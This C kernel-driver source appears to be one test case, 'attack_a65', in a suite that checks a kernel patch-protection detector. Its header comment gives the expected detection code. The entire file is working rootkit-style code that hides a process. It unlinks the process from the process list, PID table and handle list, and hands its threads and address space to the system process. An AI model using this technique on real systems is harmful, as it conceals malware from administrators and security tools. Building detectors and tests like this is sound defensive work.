/* attack_a65_adopt (A65): hide a process inside the system process. As
 * attack_a44, the process with the PID given as argument leaves the active
 * process list, the PID table and the handle-table list; its threads are
 * then handed to the system process (which is listed), and the system
 * process's address space becomes the hidden one's (its PML4 holds the
 * kernel half like every other), so every thread the scheduler runs
 * belongs to a listed process and the address space loaded is a listed
 * process's; the threads' "runs ring-3 code" flag, which only records
 * what a thread was created for, is cleared. The hidden program keeps running (its getpid now answers 0).
 * Expected: 0x109 type 0x4 (process list corruption). */
#include "attack_proc.h"
#include <kpp/process.h>

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pid = 0;
	const char *a = drv->args;
	for (; *a >= '0' && *a <= '9'; a++)
		pid = pid * 10 + (uint64_t)(*a - '0');
	if (a == drv->args)
		pid = 1;
	bool kernel = !strcmp(a, " kernel");
	if (*a && !kernel)
		return KPP_STATUS_INVALID_PARAMETER;
	struct process *sys = gs_current_thread()->process;
	struct list_link *start = &sys->link, *l = start;
	struct process *victim = NULL;
	int n = 0;
	do {
		if (is_process(l) && PROCESS_OF(l)->pid == pid)
			victim = PROCESS_OF(l);
		l = l->next;
	} while (l != start && !victim && ++n < 4096);
	struct pid_entry *slot = NULL;
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; victim && p < end && !slot; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (struct pid_entry *e = (struct pid_entry *)p; (uint64_t)(e + 1) <= p + A_PAGE; e++)
			if (e->process == victim && e->pid == pid) {
				slot = e;
				break;
			}
	}
	if (!(sys->flags & PROC_FLAG_SYSTEM) || !victim || !slot) {
		printk("attack_a65: process %lu, its PID-table slot or the system process not found\n", pid);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	unlink(&victim->link);
	slot->process = NULL;
	slot->pid = 0;
	if (victim->handles)
		unlink(&victim->handles->link);
	for (struct thread *t = victim->threads; t; t = t->proc_next) {
		t->process = sys;
		t->user = false; /* the flag only says what the thread was created for */
	}
	if (kernel) {
		uint64_t *kpml4 = (uint64_t *)(KPP_DIRECT_MAP_BASE + (sys->cr3 & A_PTE_ADDR));
		const uint64_t *vpml4 = (const uint64_t *)(KPP_DIRECT_MAP_BASE + (victim->cr3 & A_PTE_ADDR));
		for (int i = 0; i < 256; i++)
			kpml4[i] = vpml4[i];
		__asm__ volatile("mov %%cr3, %%rax; mov %%rax, %%cr3" ::: "rax", "memory");
		printk("attack_a65: process %lu hidden, its threads handed to the system process, its memory to the kernel's PML4\n",
		       pid);
	} else {
		sys->cr3 = victim->cr3;
		printk("attack_a65: process %lu hidden, its threads and address space handed to the system process\n", pid);
	}
	a_patched("attack_a65");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
